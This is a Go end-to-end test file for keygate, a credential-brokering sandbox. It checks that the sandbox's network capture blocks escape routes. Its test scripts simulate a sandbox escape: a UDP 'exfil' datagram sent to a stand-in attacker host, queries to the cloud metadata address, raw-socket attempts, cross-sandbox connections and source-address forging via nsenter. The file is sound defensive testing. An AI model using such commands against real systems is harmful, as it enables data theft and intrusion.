//go:build linux

package e2e

import (
	"encoding/json"
	"fmt"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"
)

// TestCapture checks that a hostile sandbox has exactly two ways out, the
// proxy and the resolver, in cgroup capture mode: IPv6 is captured like
// IPv4, DNS to any server is answered by keygate, everything else is
// refused at the socket call or dropped by the backstops, and nothing
// reaches the test world except through the proxy.
func TestCapture(t *testing.T) {
	w := world(t)
	addr := fmt.Sprintf("127.0.0.1:%d", freePort(t))
	a := startAgent(t, w, "--metrics-addr", addr)
	key := secret(t)
	a.mustKG("", "vault", "create", "v")
	a.mustKG(key+"\n", "cred", "add", "v", "api", "--env", "API_KEY", "--domain", w.APIHost(), "--domain", w.API6Host())
	run := func(t *testing.T, script string) string {
		t.Helper()
		out, errOut, code := a.run([]string{"--vault", "v"}, script)
		if code != 0 {
			t.Fatalf("exit %d\nstdout %s\nstderr %s\nagent log:\n%s", code, out, errOut, lastLines(a.log.String(), 30))
		}
		return out
	}
	py := func(code string) string { return `python3 -c '` + code + `'` }

	t.Run("IPv6 injection", func(t *testing.T) {
		out := run(t, `curl -sS -m 10 -o /dev/null -w '%{http_code} %{remote_ip}' https://`+w.API6Host()+`/v6 -H "Authorization: Bearer $API_KEY"`)
		if !strings.HasPrefix(out, "200 ") || !strings.Contains(out, ":") {
			t.Fatalf("curl over IPv6: %q", out)
		}
		reqs := w.Requests(w.API6Host())
		if len(reqs) == 0 || reqs[len(reqs)-1].Header.Get("Authorization") != "Bearer "+key || !reqs[len(reqs)-1].Dst.Addr().Is6() {
			t.Fatalf("api6 requests: %d; want the real key over IPv6", len(reqs))
		}
	})

	t.Run("applications see the address they dialled", func(t *testing.T) {
		out := run(t, py(`import socket
for fam, dst in ((socket.AF_INET, ("`+w.API.String()+`", 443)), (socket.AF_INET6, ("`+w.API6.String()+`", 443, 0, 0))):
    s = socket.socket(fam, socket.SOCK_STREAM); s.connect(dst); print(s.getpeername()[0], s.getpeername()[1]); s.close()`))
		want := w.API.String() + " 443\n" + w.API6.String() + " 443\n"
		if out != want {
			t.Fatalf("getpeername: %q, want %q", out, want)
		}
	})

	t.Run("UDP to a test host never arrives", func(t *testing.T) {
		out := run(t, py(`import socket
for fam, host in ((socket.AF_INET, "`+w.Attacker.String()+`"), (socket.AF_INET6, "`+w.Attacker6.String()+`")):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        s.sendto(b"udp-exfil", (host, 9999)); print("sent")
    except OSError as e:
        print(e.errno)`))
		if strings.Contains(out, "sent") {
			t.Fatalf("UDP send succeeded: %q", out)
		}
		time.Sleep(200 * time.Millisecond)
		if w.Received([]byte("udp-exfil")) {
			t.Fatal("the world received the UDP datagram")
		}
	})

	t.Run("DNS to any server is answered by keygate", func(t *testing.T) {
		for _, server := range []string{w.StrayDNS.String(), w.Attacker.String(), w.Attacker6.String()} {
			for _, proto := range []string{"", "+tcp"} {
				out := run(t, `dig +short +tries=1 +time=3 `+proto+` @`+server+` `+w.APIHost()+` A`)
				if strings.TrimSpace(out) != w.API.String() {
					t.Fatalf("dig %s @%s: %q, want %s\nagent log:\n%s", proto, server, out, w.API, lastLines(a.log.String(), 30))
				}
			}
		}
		for _, d := range w.Datagrams() {
			if d.Dst.Port() == 53 {
				t.Fatalf("a DNS packet reached the world's %s: %q", d.Dst, d.Payload)
			}
		}
	})

	t.Run("raw and packet sockets fail", func(t *testing.T) {
		out := run(t, py(`import socket
for args in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)):
    try:
        socket.socket(*args); print("opened")
    except OSError as e:
        print("refused", e.errno)`))
		if strings.Contains(out, "opened") {
			t.Fatalf("a raw socket opened: %q", out)
		}
	})

	t.Run("metadata address is refused", func(t *testing.T) {
		out := run(t, `curl -sS -m 5 -w '\n%{http_code}' http://169.254.169.254/latest/meta-data/ 2>&1; `+
			`curl -sS -m 5 -k https://169.254.169.254/ 2>&1; true`)
		if strings.Contains(out, "\n200") {
			t.Fatalf("metadata reached: %q", out)
		}
		if n := len(w.Requests(w.MetadataHost())); n != 0 {
			t.Fatalf("the metadata stand-in received %d requests", n)
		}
	})

	t.Run("another sandbox cannot be reached", func(t *testing.T) {
		other := strings.TrimSpace(a.mustKG("", "sandbox", "create"))
		var sbs []struct{ ID, Address string }
		jsonInto(t, a.mustKG("", "sandbox", "list", "--json"), &sbs)
		target := ""
		for _, s := range sbs {
			if s.ID == other {
				target = s.Address
			}
		}
		srv := exec.Command(filepath.Join(binDir, "keygate"), "sandbox", "exec", other, "--",
			"python3", "-c", `import socket
s = socket.socket(); s.bind(("0.0.0.0", 8000)); s.listen(); c, _ = s.accept(); print("ACCEPTED", flush=True)`)
		srv.Env = append(srv.Environ(), "KEYGATE_SOCKET="+a.socket)
		got := &syncBuffer{}
		srv.Stdout = got
		if err := srv.Start(); err != nil {
			t.Fatal(err)
		}
		defer func() { srv.Process.Kill(); srv.Wait() }()
		time.Sleep(300 * time.Millisecond)
		out := run(t, `curl -sS -m 5 -w '\n%{http_code}' http://`+target+`:8000/ 2>&1; true`)
		time.Sleep(300 * time.Millisecond)
		if strings.Contains(got.String(), "ACCEPTED") {
			t.Fatalf("sandbox %s accepted a connection from another sandbox (curl: %q)", other, out)
		}
		a.mustKG("", "sandbox", "rm", other)
	})

	t.Run("a forged source address is dropped", func(t *testing.T) {
		victim := strings.TrimSpace(a.mustKG("", "sandbox", "create"))
		forger := strings.TrimSpace(a.mustKG("", "sandbox", "create"))
		var sbs []struct{ ID, Address string }
		jsonInto(t, a.mustKG("", "sandbox", "list", "--json"), &sbs)
		var victimAddr string
		for _, s := range sbs {
			if s.ID == victim {
				victimAddr = s.Address
			}
		}
		before := scrape(t, addr)
		// Root in the forger's network namespace (what a sandbox escape
		// would give) claims the victim's address and sends from it.
		pin := filepath.Join(a.dir, "netns", forger)
		script := fmt.Sprintf(`ip addr add %s/32 dev eth0 && python3 -c 'import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("%s", 0)); s.sendto(b"forged-src", ("%s", 9999))
t = socket.socket(); t.bind(("%s", 0)); t.settimeout(2)
try:
    t.connect(("%s", 443)); print("connected")
except OSError as e:
    print("refused", e)'`, victimAddr, victimAddr, w.Attacker, victimAddr, serviceAddr)
		out, err := exec.Command("nsenter", "--net="+pin, "sh", "-c", script).CombinedOutput()
		if strings.Contains(string(out), "connected") {
			t.Fatalf("a connection from a forged source reached the proxy: %s (%v)", out, err)
		}
		time.Sleep(200 * time.Millisecond)
		if w.Received([]byte("forged-src")) {
			t.Fatal("the world received a packet with a forged source")
		}
		after := scrape(t, addr)
		key := `keygate_bpf_guard_events_total{mode="veth_guard",reason="drop_spoofed_source"}`
		if after[key]-before[key] < 2 {
			t.Fatalf("%s rose by %v, want at least 2", key, after[key]-before[key])
		}
		a.mustKG("", "sandbox", "rm", victim, forger)
	})

	// Report what the programs counted during the attacks.
	final := scrape(t, addr)
	var lines []string
	for k, v := range final {
		if strings.HasPrefix(k, "keygate_bpf_") && v > 0 {
			lines = append(lines, fmt.Sprintf("%s %v", k, v))
		}
	}
	t.Logf("BPF counters after the capture tests:\n%s", strings.Join(sortStrings(lines), "\n"))
	a.stop()
	if attackerSaw(w, key) || strings.Contains(a.log.String(), key) {
		t.Fatal("the secret leaked")
	}
}

// serviceAddr is the agent's IPv4 service address in the tests' sandbox
// range (--sandbox-cidr 10.235.0.0/16).
const serviceAddr = "10.235.0.1"

func jsonInto(t *testing.T, s string, v any) {
	t.Helper()
	if err := json.Unmarshal([]byte(s), v); err != nil {
		t.Fatalf("decode %q: %v", s, err)
	}
}

func sortStrings(xs []string) []string {
	sort.Strings(xs)
	return xs
}

// lastLines returns the last n lines of s, for failure messages.
func lastLines(s string, n int) string {
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	if len(lines) > n {
		lines = lines[len(lines)-n:]
	}
	return strings.Join(lines, "\n")
}
